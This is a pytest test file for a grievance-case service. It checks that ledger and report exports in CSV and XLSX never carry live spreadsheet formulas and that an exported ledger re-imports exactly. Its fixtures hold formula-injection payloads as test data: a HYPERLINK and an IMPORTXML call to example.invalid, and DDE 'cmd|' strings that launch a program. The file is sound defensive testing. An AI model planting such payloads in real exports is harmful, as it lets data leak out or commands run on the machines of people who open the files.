"""Exports never carry a live formula (OWASP CSV injection), and an exported ledger re-imports exactly.

Cases made through the live API carry titles, descriptions, names, replies, a department name and a meeting
title that a spreadsheet would run as formulas (= + - @), an error value (#N/A), and a title that already
starts with a quote. Every file the service writes is read back as Excel would: the CSV cells start with the
OWASP quote, the workbook cells are strings (never formulas) with the quote-prefix style, and the ledger,
imported into an empty database, gives the same cases and the same report.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from grievance.db import transaction
from grievance.ledger import exporter
from grievance.ledger.columns import COLUMNS, NAMES
from grievance.reference import service as reference
from grievance.reference.schemas import DepartmentIn, MeetingIn
from tests.api._support import API, sh
from tests.factories import World
from tests.ledger._roundtrip import (
    AS_OF,
    comparable,
    export_all,
    import_into,
    leader_token,
    rates,
    seen_cases,
    token_for,
)
from tests.ledger._support import counts

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
TITLES = {
    "hyperlink": '=HYPERLINK("http://example.invalid/?d="&A2,"点击查看")',
    "plus": "+SUM(1,2) 号楼电梯故障",
    "minus": "-2",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted": "'=已带撇号的标题",
    "error": "#N/A",
}
# The same titles as CSV cells: OWASP's leading quote, one more before a text that already starts with a quote
# and a formula character (so the import can tell the two apart), nothing for a text no spreadsheet runs.
TITLES_IN_CSV = {
    "hyperlink": '\'=HYPERLINK("http://example.invalid/?d="&A2,"点击查看")',
    "plus": "'+SUM(1,2) 号楼电梯故障",
    "minus": "'-2",
    "at": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted": "''=已带撇号的标题",
    "error": "#N/A",
}
DESCRIPTION = '=IMPORTXML("http://example.invalid/","//a")'
NAME = "=cmd|' /C calc'!A0"
REPLY = "@已答复：=1+1"
ON_SPOT_REPLY = "-已当场解答"
EVIL_DEPARTMENT = '=HYPERLINK("http://example.invalid/","城管二队")'
EVIL_MEETING = "@第二期阳光恳谈会"
PHONE_TYPED = "+86 13812341234"


@pytest.fixture
def evil(world: World, clock: Any) -> dict[str, str]:
    """Six November 2025 cases through the live API, each with a title a spreadsheet would run."""
    with transaction(world.app.state.sessions) as session:
        reference.create_department(session, department_in=DepartmentIn(code="EVIL", name=EVIL_DEPARTMENT))
        meeting_id = reference.create_meeting(
            session, meeting_in=MeetingIn(title=EVIL_MEETING, held_on="2025-11-02", station="ZS01")
        ).id
    no: dict[str, str] = {}

    def intake(key: str, day: int, **body: Any) -> str:
        clock.set(sh(2025, 11, day, 9))
        body.setdefault("meeting", None)
        no[key] = world.intake(title=TITLES[key], **body)["case_no"]
        return no[key]

    def act(key: str, day: int, hour: int, action: str, user: str, **fields: Any) -> None:
        clock.set(sh(2025, 11, day, hour))
        world.act(no[key], action, user, **fields)

    intake(
        "hyperlink",
        3,
        channel="meeting",
        meeting=meeting_id,
        description=DESCRIPTION,
        petitioner={"name": NAME, "phone": PHONE_TYPED},
    )
    act("hyperlink", 3, 10, "dispatch", "dispatcher", department_id="CGJ")
    act("hyperlink", 3, 11, "accept", "handler")
    act("hyperlink", 3, 12, "respond", "handler", note="=1+1")
    act("hyperlink", 5, 10, "resolve", "handler", outcome="solved", reply=REPLY)
    act("hyperlink", 6, 10, "callback", "dispatcher", reached=True, solved=True, satisfaction="satisfied")
    act("hyperlink", 7, 10, "close", "dispatcher")

    # Dispatched to the department with a formula for a name and never accepted: overdue in every report.
    intake("plus", 4, channel="hotline")
    act("plus", 4, 10, "dispatch", "dispatcher", department_id="EVIL")
    intake("error", 5, channel="letter")
    act("error", 5, 10, "dispatch", "dispatcher", department_id="EVIL")

    intake("minus", 6, channel="walk_in", case_type="consult")
    act("minus", 6, 10, "answer_on_spot", "intake", reply=ON_SPOT_REPLY)

    intake("at", 10, channel="online", description="-10℃ 暖气不热")
    act("at", 10, 10, "dispatch", "dispatcher", department_id="CGJ")
    act("at", 10, 11, "accept", "handler")
    act("at", 10, 12, "respond", "handler", note="已联系")
    act("at", 12, 10, "resolve", "handler", outcome="solved", reply="+已处理")
    act("at", 13, 10, "callback", "dispatcher", reached=True, solved=False, satisfaction="unsatisfied")
    act("at", 13, 11, "reopen", "dispatcher", reason="=未解决")

    intake("quoted", 11, channel="walk_in", description="'不是公式的撇号")
    clock.set(sh(2026, 1, 20))  # after AS_OF: reports as of it are in the past
    return no


def download(world: World, url: str, params: dict[str, Any], user: str = "dispatcher") -> bytes:
    response = world.client.get(f"{API}{url}", params=params, headers=world.headers(user))
    assert response.status_code == 200, response.text
    return response.content


def csv_table(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def assert_csv_runs_nothing(table: list[list[str]]) -> None:
    """No cell of the file starts with a character that makes a spreadsheet read a formula."""
    running = [cell for row in table for cell in row if cell.startswith(TRIGGERS)]
    assert running == []


def assert_workbook_runs_nothing(book: Workbook) -> list[Any]:
    """No cell is a formula or an error value, and a text starting with a formula character has the quote
    prefix (so that editing it in Excel keeps it text). Returns every cell value of the book."""
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_the_ledger_csv_quotes_every_formula(world, evil):
    table = csv_table(download(world, "/ledger/export", {"format": "csv"}))
    assert_csv_runs_nothing(table)
    by_no = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
    for key, case_no in evil.items():
        assert by_no[case_no]["title"] == TITLES_IN_CSV[key], key
    first = by_no[evil["hyperlink"]]
    assert first["description"] == '\'=IMPORTXML("http://example.invalid/","//a")'
    assert first["petitioner_name"] == "'=cmd|' /C calc'!A0"
    assert first["reply"] == "'@已答复：=1+1"
    assert first["meeting_title"] == "'@第二期阳光恳谈会"
    assert by_no[evil["minus"]]["reply"] == "'-已当场解答"
    assert by_no[evil["at"]]["description"] == "'-10℃ 暖气不热"
    assert by_no[evil["quoted"]]["description"] == "'不是公式的撇号"  # a quote before no formula stays one


def test_the_ledger_workbook_holds_text_not_formulas(world, evil):
    book = load_workbook(io.BytesIO(download(world, "/ledger/export", {"format": "xlsx"})))
    assert_workbook_runs_nothing(book)
    table = [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    header = [c.aliases[0] for c in COLUMNS]
    assert table[0] == header
    by_no = {row[0]: dict(zip(NAMES, row, strict=True)) for row in table[1:]}
    for key, case_no in evil.items():
        expected = "''=已带撇号的标题" if key == "quoted" else TITLES[key]  # the import drops the extra quote
        assert by_no[case_no]["title"] == expected, key
    first = by_no[evil["hyperlink"]]
    assert (first["description"], first["petitioner_name"], first["reply"]) == (DESCRIPTION, NAME, REPLY)
    assert first["meeting_title"] == EVIL_MEETING


def test_report_files_hold_no_formula(world, evil):
    params = {"from": "2025-11-01", "to": "2025-12-01", "as_of": AS_OF, "group_by": ["department", "meeting"]}
    rates_csv = csv_table(download(world, "/reports/rates", {**params, "format": "csv"}, user="leader"))
    assert_csv_runs_nothing(rates_csv)
    labels = {row[2] for row in rates_csv[1:] if row[0] == "department"}
    assert '\'=HYPERLINK("http://example.invalid/","城管二队")' in labels
    assert "城市管理局" in labels  # a name no spreadsheet runs is written as it is

    rates_book = load_workbook(io.BytesIO(download(world, "/reports/rates", {**params, "format": "xlsx"}, "leader")))
    assert EVIL_DEPARTMENT in assert_workbook_runs_nothing(rates_book)

    monthly = download(world, "/reports/monthly/2025-11", {"as_of": AS_OF, "format": "xlsx"}, user="leader")
    book = load_workbook(io.BytesIO(monthly))
    values = assert_workbook_runs_nothing(book)
    assert EVIL_DEPARTMENT in values  # the department ranking
    overdue = [list(row) for row in book["超期清单"].iter_rows(min_row=2, values_only=True)]
    assert {(row[1], row[2]) for row in overdue} >= {
        (TITLES["plus"], EVIL_DEPARTMENT),
        (TITLES["error"], EVIL_DEPARTMENT),
    }


def test_the_ledger_reimports_into_an_empty_database_as_it_was(world, evil, app, empty_app):
    before = comparable(rates(world.client, world.tokens["leader"]), app)
    assert before["metrics"]["intake_count"]["value"] == len(evil)
    numbers = sorted(evil.values())
    seen = seen_cases(app, world.client, world.tokens["supervisor"], numbers)
    assert {seen[no]["title"] for no in numbers} == set(TITLES.values())
    assert seen[evil["hyperlink"]]["petitioner"][0] == NAME
    assert seen[evil["hyperlink"]]["reply"] == REPLY
    original = export_all(app)
    for kind, body in (("csv", exporter.to_csv(original)), ("xlsx", exporter.to_xlsx(original))):
        second = empty_app()
        assert counts(second.state.engine)["cases"] == 0
        summary = import_into(second, f"ledger.{kind}", body)
        assert summary["created"] == len(evil), kind
        assert "EVIL" in summary["new_departments"], kind
        assert summary["new_meetings"] == [f"2025-11-02 {EVIL_MEETING}"], kind
        imported = seen_cases(second, second.state.client, token_for(second, "supervisor"), numbers)
        for key, case_no in evil.items():
            assert imported[case_no]["title"] == TITLES[key], (kind, key)
            # Everything else a user sees: description, petitioner (the phone as intake stored it), reply,
            # state, department, times and clocks.
            assert imported[case_no] == seen[case_no], (kind, key)
        assert comparable(rates(second.state.client, leader_token(second)), second) == before, kind
        assert export_all(second) == original, kind
